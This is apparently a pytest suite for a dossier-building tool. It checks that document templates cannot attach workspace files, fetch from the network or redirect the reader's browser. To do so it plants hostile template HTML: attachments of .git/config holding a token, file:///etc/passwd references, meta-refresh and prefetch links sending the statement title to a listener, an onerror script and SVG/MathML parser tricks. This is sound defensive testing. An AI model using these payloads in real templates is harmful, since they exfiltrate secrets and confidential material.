"""A workspace's template may not put in an output a file the dossier does not declare, nor make
the reader's browser or PDF viewer go anywhere on its own. Each attack is planted in a
workspace's own template and judged by its effect: a secret's bytes in the PDF or its
attachments, a request arriving at a loopback listener while real Chromium shows the preview
and the HTML a build writes. `check` finds each at the template's line, without a layout."""

from __future__ import annotations

import re
import zlib
from io import BytesIO
from pathlib import Path

import lxml.html
import pypdf
import pytest

from conftest import files, run_cli
from support.browser import launch, needs_chromium, serving
from support.loopback import Handler
from support.overrides import PROFILE, TEMPLATE, override

TOKEN = "ghp_TOKEN0123456789FROMTHEGITREMOTE"
CONFIDENTIAL_CLAIM = "The witness Leila Farahani saw the trucks leave Evin prison at night."
CONFIDENTIAL = f"""\
- id: witness-account
  claim: {CONFIDENTIAL_CLAIM}
  confidential: true
  sources:
    - cite: sr-2017
      locator: para. 109
"""
FILE_HINT = (
    "  hint: a template may use only images, fonts and stylesheets kept in templates/, and "
    "data: URIs; copy the file there, or remove the reference\n"
)
NAVIGATION_HINT = (
    "  hint: remove it: a submission stays where it is opened and asks nothing of the "
    "network; links may lead to https:// pages, mailto: addresses or #anchors\n"
)
STOP = "a template may not make the reader's browser or PDF viewer go anywhere on its own"


def secret_workspace(make_workspace) -> Path:
    """A workspace in git whose remote's address holds a token, with a confidential item."""
    root = make_workspace(files({"evidence/witness.yaml": CONFIDENTIAL}))
    (root / ".git").mkdir()
    (root / ".git" / "config").write_text(
        f'[remote "origin"]\n\turl = https://{TOKEN}@github.com/ngo/dossiers.git\n'
    )
    return root


def pdf_bytes(pdf: bytes) -> bytes:
    """A PDF's bytes with each of its streams inflated, so that a file carried inside it
    (attached, embedded) is found by its plain bytes."""
    inflated = [pdf]
    for stream in re.finditer(rb"stream\r?\n(.*?)\r?\nendstream", pdf, re.DOTALL):
        try:
            inflated.append(zlib.decompress(stream.group(1)))
        except zlib.error:
            pass
    return b"".join(inflated)


@pytest.mark.parametrize("command", ["check", "build"])
def test_a_template_cannot_attach_the_git_remote_or_a_confidential_claim(make_workspace, command):
    root = secret_workspace(make_workspace)
    override(
        root,
        body='<link rel="attachment" href=".git/config">'
        '<a rel="attachment" href="evidence/witness.yaml">Annex</a>',
    )
    result = run_cli(command, cwd=root)
    assert result.code == 1
    assert result.problems == (
        f'{TEMPLATE}:15:30: error[D416]: `<link rel="attachment" href=".git/config">` would '
        "carry that file inside the PDF: a template may not attach files\n"
        "  hint: remove it; the PDF carries nothing but what the build attaches to it\n"
        f'{TEMPLATE}:15:69: error[D416]: `<a rel="attachment" href="evidence/witness.yaml">` '
        "would carry that file inside the PDF: a template may not attach files\n"
        "  hint: remove it; the PDF carries nothing but what the build attaches to it\n"
        "2 errors found\n"
    )
    assert not (root / "build").exists()


def test_the_layout_attaches_no_hidden_evidence_or_other_workspace_file(make_workspace, caplog):
    """Whatever HTML reaches it, the layout's sandbox reads no hidden file, nothing of
    evidence/ and nothing but images, fonts and stylesheets: the PDF is made without them."""
    from weasyprint import HTML

    from dossier.render.pdf.sandbox import SandboxedFetcher

    root = secret_workspace(make_workspace)
    fetcher = SandboxedFetcher(root, [])
    html = (
        '<link rel="attachment" href=".git/config">'
        '<link rel="attachment" href="dossiers/test/dossier.yaml">'
        '<p><a rel="attachment" href="evidence/witness.yaml">Annex</a></p>'
    )
    pdf = HTML(string=html, base_url=f"{root.as_uri()}/", url_fetcher=fetcher).write_pdf()
    assert pypdf.PdfReader(BytesIO(pdf)).attachments == {}
    everything = pdf_bytes(pdf)
    assert b"Annex" not in pdf  # (the text is drawn, its letters are not stored as such)
    assert TOKEN.encode() not in everything
    assert CONFIDENTIAL_CLAIM.encode() not in everything
    assert b"profile: hrc-written-statement" not in everything
    assert sorted(r.url.removeprefix(root.as_uri()) for r in fetcher.refusals) == [
        "/.git/config",
        "/dossiers/test/dossier.yaml",
        "/evidence/witness.yaml",
    ]
    assert sorted(r.getMessage().split("RefusedReference: ", 1)[1] for r in caplog.records) == [
        f"refused {root.as_uri()}/.git/config: hidden files and folders (.git, .env, …) are "
        "never read into a document",
        f"refused {root.as_uri()}/dossiers/test/dossier.yaml: a document uses only images, "
        "fonts and stylesheets from the workspace",
        f"refused {root.as_uri()}/evidence/witness.yaml: nothing of evidence/ ever enters a "
        "document",
    ]
    caplog.clear()  # WeasyPrint logs each attachment it left out


def test_a_template_uses_only_the_images_fonts_and_stylesheets_of_templates(
    make_workspace, server, tmp_path
):
    root = secret_workspace(make_workspace)
    (tmp_path / "outside.png").write_bytes(b"\x89PNG")
    (root / "templates").mkdir()
    (root / "templates" / "seal.png").write_bytes(b"\x89PNG")
    override(
        root,
        body="\n".join(
            [
                '<img src="evidence/snapshots/sr-2017.txt">',
                '<img src="dossiers/test/../../.git/config">',
                '<img src="templates/.hidden/seal.png">',
                '<img src="../outside.png">',
                '<img src="file:///etc/passwd">',
                f'<link rel="stylesheet" href="{server}/style.css">',
                f'<img src="//127.0.0.1:{server.rsplit(":", 1)[1]}/pixel.png">',
                f'<img srcset="templates/seal.png 1x, {server}/seal@2x.png 2x">',
                '<img src="templates/seal.png" alt="Seal">',
            ]
        ),
    )
    result = run_cli("check", cwd=root)
    assert result.code == 1
    port = server.rsplit(":", 1)[1]
    assert result.problems == (
        f'{TEMPLATE}:15:11: error[D416]: `src="evidence/snapshots/sr-2017.txt"` on `<img>` '
        "refers to a file a template may not put in a document: "
        "`evidence/snapshots/sr-2017.txt` is not in templates/\n"
        + FILE_HINT
        + f'{TEMPLATE}:16:11: error[D416]: `src="dossiers/test/../../.git/config"` on `<img>` '
        "refers to a file a template may not put in a document: `.git/config` is not in "
        "templates/\n"
        + FILE_HINT
        + f'{TEMPLATE}:17:11: error[D416]: `src="templates/.hidden/seal.png"` on `<img>` refers '
        "to a file a template may not put in a document: hidden files and folders (.git, "
        ".env, …) are never read into a document\n"
        + FILE_HINT
        + f'{TEMPLATE}:18:11: error[D416]: `src="../outside.png"` on `<img>` refers to a file '
        "a template may not put in a document: it is not a file inside the workspace\n"
        + FILE_HINT
        + f'{TEMPLATE}:19:11: error[D416]: `src="file:///etc/passwd"` on `<img>` refers to a '
        "file a template may not put in a document: it is not a file inside the workspace\n"
        + FILE_HINT
        + f'{TEMPLATE}:20:30: error[D417]: `href="{server}/style.css"` on `<link>` would be '
        f"fetched from the network: {STOP}\n"
        + FILE_HINT
        + f'{TEMPLATE}:21:11: error[D417]: `src="//127.0.0.1:{port}/pixel.png"` on `<img>` '
        f"would be fetched from the network: {STOP}\n"
        + FILE_HINT
        + f'{TEMPLATE}:22:14: error[D417]: `srcset="templates/seal.png 1x, {server}/seal@2x.png '
        f'2x"` on `<img>` would be fetched from the network: {STOP}\n'
        + FILE_HINT
        + "8 errors found\n"
    )
    assert Handler.requests == []


def test_a_style_sheet_uses_only_the_images_fonts_and_stylesheets_of_templates(
    make_workspace, server
):
    root = secret_workspace(make_workspace)
    css = (
        f'@import "{server}/fonts.css"; article {{ background: '
        'image-set("evidence/snapshots/sr-2017.txt" 1x) } '
        "h2 { background: url(data:image/png;base64,iVBORw0KGgo=) }"
    )
    override(
        root,
        body="<style>h1 { background: url(.git/config) }</style>"
        f"<p style=\"background: url('{server}/p.png')\">x</p>"
        '<p style="background: url(templates/seal.png)">y</p>',
        css=css,
    )
    result = run_cli("check", cwd=root)
    assert result.code == 1
    stylesheet = f"templates/{PROFILE}/statement.css"
    evidence = css.index("evidence/") + 1
    assert result.problems == (
        f'{stylesheet}:1:10: error[D417]: `url("{server}/fonts.css")` in `<style>` would be '
        f"fetched from the network: {STOP}\n"
        + FILE_HINT
        + f"{stylesheet}:1:{evidence}: error[D416]: "
        '`url("evidence/snapshots/sr-2017.txt")` in `<style>` refers to a file a template '
        "may not put in a document: "
        "`evidence/snapshots/sr-2017.txt` is not in templates/\n"
        + FILE_HINT
        + f'{TEMPLATE}:15:29: error[D416]: `url(".git/config")` in `<style>` refers to a file '
        "a template may not put in a document: `.git/config` is not in templates/\n"
        + FILE_HINT
        + f"{TEMPLATE}:15:61: error[D417]: `style=\"background: url('{server}/p.png')\"` on "
        f"`<p>` would be fetched from the network: {STOP}\n" + FILE_HINT + "4 errors found\n"
    )
    assert Handler.requests == []


NAVIGATIONS = [
    (
        '<meta http-equiv="refresh" content="0;url=https://example.org/?t={{ c.title }}">',
        7,
        '`<meta http-equiv="refresh">` tells the browser what to do with the page (a refresh '
        "sends it elsewhere)",
    ),
    (
        '<meta http-equiv="Content-Security-Policy" content="default-src *">',
        7,
        '`<meta http-equiv="Content-Security-Policy">` tells the browser what to do with the '
        "page (a refresh sends it elsewhere)",
    ),
    (
        '<base href="https://example.org/">',
        1,
        "`<base>` changes the address every link and image of the page is read from",
    ),
    (
        '<form action="https://example.org/"><input name="t"></form>',
        1,
        "`<form>` sends what it holds to an address",
    ),
    (
        '<iframe src="https://example.org/"></iframe>',
        1,
        "`<iframe>` loads another page into this one",
    ),
    (
        '<object data="templates/x.svg"></object>',
        1,
        "`<object>` loads another document or plug-in into this one",
    ),
    (
        '<embed src="templates/x.svg">',
        1,
        "`<embed>` loads another document or plug-in into this one",
    ),
    ("<script>location = '/'</script>", 1, "`<script>` runs a program in the reader's browser"),
    (
        '<svg><style><meta http-equiv="refresh" content="0;url=https://example.org/"></style></svg>',
        1,
        "`<svg>` is parsed by the browser by rules that can hide a refresh or a script in it "
        "(show an SVG file of templates/ with `<img>` instead)",
    ),
    (
        "<math><style><img src=x onerror=alert(1)></style></math>",
        1,
        "`<math>` is parsed by the browser by rules that can hide a refresh or a script in it",
    ),
    (
        '<link rel="prefetch" href="https://example.org/">',
        7,
        '`<link rel="prefetch">` makes the browser reach `https://example.org/` before anyone '
        "asks for it",
    ),
    (
        '<link rel="dns-prefetch" href="//example.org">',
        7,
        '`<link rel="dns-prefetch">` makes the browser reach `//example.org` before anyone asks '
        "for it",
    ),
    (
        '<a href="https://example.org/" ping="https://example.org/ping">x</a>',
        38,
        '`ping="https://example.org/ping"` on `<a>` acts on its own: ' + STOP,
    ),
    (
        "<p onclick=\"fetch('https://example.org/')\">x</p>",
        13,
        "`onclick=\"fetch('https://example.org/')\"` on `<p>` acts on its own: " + STOP,
    ),
    (
        '<a href="javascript:fetch(1)">x</a>',
        10,
        '`href="javascript:fetch(1)"` on `<a>` leads to what is not a web page, an e-mail '
        "address or an anchor",
    ),
    (
        '<a href="http://example.org/">x</a>',
        10,
        '`href="http://example.org/"` on `<a>` leads to what is not a web page, an e-mail '
        "address or an anchor",
    ),
    (
        '<a href="file:///etc/passwd">x</a>',
        10,
        '`href="file:///etc/passwd"` on `<a>` leads to what is not a web page, an e-mail '
        "address or an anchor",
    ),
    (
        '<a href="evidence/witness.yaml">x</a>',
        10,
        '`href="evidence/witness.yaml"` on `<a>` leads to what is not a web page, an e-mail '
        "address or an anchor",
    ),
]


@pytest.mark.parametrize(("body", "column", "message"), NAVIGATIONS)
def test_a_template_cannot_make_the_reader_go_anywhere_on_its_own(
    make_workspace, body, column, message
):
    root = make_workspace(files())
    override(root, body=body)
    result = run_cli("check", cwd=root)
    assert result.code == 1
    assert result.problems == (
        f"{TEMPLATE}:15:{column}: error[D417]: {message}\n" + NAVIGATION_HINT + "1 error found\n"
    )


def test_a_template_may_link_to_web_pages_and_show_its_own_images(make_workspace):
    """What a template may do still works, and the statement's own links and images (even to
    http:, which a statement may link to) are not the template's to answer for."""
    statement = "# Findings\n\nSee [the report](http://example.org/report) [uncited: test].\n"
    root = make_workspace(files({"dossiers/test/statement.md": statement}))
    (root / "templates").mkdir()
    (root / "templates" / "seal.svg").write_text(
        '<svg xmlns="http://www.w3.org/2000/svg" width="4" height="4"><rect width="4" '
        'height="4"/></svg>'
    )
    override(
        root,
        body='<img src="templates/seal.svg" alt="Seal"><p><a href="https://example.org/">'
        'Site</a> <a href="mailto:office@example.org">Mail</a></p>',
    )
    result = run_cli("build", cwd=root)
    assert result.code == 0, result.err
    html = (root / "build/test/test.html").read_text(encoding="utf-8")
    assert '<a href="http://example.org/report">' in html
    assert '<img src="templates/seal.svg" alt="Seal">' in html


def test_a_hidden_template_is_never_read(make_workspace):
    root = make_workspace(files())
    override(root, body=f"{{% include '{PROFILE}/.env' %}}")
    (root / "templates" / PROFILE / ".env").write_text(f"TOKEN={TOKEN}\n")
    result = run_cli("check", cwd=root)
    assert result.code == 1
    assert result.problems == (
        f"{TEMPLATE}:15:1: error[D410]: template name `{PROFILE}/.env` names a hidden file or "
        "folder (`.env`): hidden files and folders are never read\n"
        "  hint: keep templates in files and folders whose names do not start with `.`\n"
        "1 error found\n"
    )


def hostile_body(server: str) -> str:
    """Every way a template has to send the statement to `server` as the page is shown."""
    leak = "{{ c.title | urlencode }}"
    return (
        f'<meta http-equiv="refresh" content="0;url={server}/refresh?t={leak}">'
        f'<link rel="prefetch" href="{server}/prefetch?t={leak}">'
        f'<link rel="preload" as="image" href="{server}/preload.png">'
        f'<link rel="stylesheet" href="{server}/style.css">'
        f'<base href="{server}/base/"><img src="relative.png" alt="">'
        f'<img src="{server}/image.png?t={leak}" alt="">'
        f'<img srcset="{server}/srcset.png 1x" alt="">'
        f'<img src="data:," alt="" onerror="fetch(\'{server}/onerror\')">'
        f'<video poster="{server}/poster.png"></video>'
        f'<iframe src="{server}/iframe"></iframe>'
        f'<object data="{server}/object"></object><embed src="{server}/embed">'
        f'<form action="{server}/form"><input name="t" value="{leak}"></form>'
        f"<script>fetch('{server}/script')</script>"
        f'<svg><style><meta http-equiv="refresh" content="0;url={server}/svg"></style></svg>'
        f"<style>body {{ background: url({server}/style.png) }}</style>"
        f'<p style="background: url({server}/attribute.png)">x</p>'
    )


@needs_chromium
def test_chromium_showing_the_preview_or_the_html_sends_nothing_anywhere(
    make_workspace, server, tmp_path
):
    """The preview (`dossier serve`) and the HTML a build would write are opened in real
    Chromium: the listener the template points at hears nothing, while the page shows the
    statement and lists what the template tried."""
    from playwright.sync_api import expect, sync_playwright

    from dossier.cite.compile import compile_workspace
    from dossier.load.workspace import load_workspace
    from dossier.render.html.render_html import render_html

    root = make_workspace(files())
    override(root, body=hostile_body(server))
    assert run_cli("build", cwd=root).code == 1
    assert not (root / "build").exists()
    workspace, _ = load_workspace(root, ["test"])
    written = render_html(compile_workspace(workspace).dossiers["test"], root).html
    (tmp_path / "test.html").write_text(written, encoding="utf-8")
    assert server not in written
    with sync_playwright() as playwright, serving(root, "test") as (url, _):
        browser = launch(playwright, tmp_path / "chromium")
        page = browser.new_page()
        page.goto(url)
        expect(page.locator("article h1")).to_have_text("A test statement")
        expect(page.locator(".dossier-problems li", has_text="D417")).to_have_count(17)
        page.wait_for_timeout(1500)  # long past a refresh after 0 s: it must not happen
        assert page.url == url
        shown = page.content()
        page.goto((tmp_path / "test.html").as_uri())
        expect(page.locator("article h1")).to_have_text("A test statement")
        page.wait_for_timeout(1500)
        assert page.url == (tmp_path / "test.html").as_uri()
        browser.close()
    assert Handler.requests == []
    attributes = [
        value
        for element in lxml.html.document_fromstring(shown).iter()
        for value in element.values()
    ]
    assert not [value for value in attributes if server in value]
